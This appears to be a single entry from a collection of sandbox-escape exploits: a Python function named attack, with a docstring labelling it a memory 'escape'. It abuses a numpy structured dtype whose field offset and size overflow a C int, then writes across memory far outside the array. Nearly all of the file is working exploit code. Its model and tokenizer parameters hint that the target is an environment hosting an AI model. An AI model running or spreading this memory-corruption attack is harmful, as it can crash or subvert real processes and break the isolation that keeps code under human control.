"""Class: memory. Source: own find. Escape: memory far outside an array is written to. Offset and size of
a field add up past a C int, so that numpy takes the window for one inside an item of eight bytes."""

import numpy as np


def attack(model, tokenizer, address):
    words = np.dtype(("i8", (268_435_448,)))
    window = np.dtype({"names": ["w"], "formats": [words], "offsets": [64], "itemsize": 8})
    array = np.zeros(1, window)
    found = array["w"][0]
    found[:] = 7
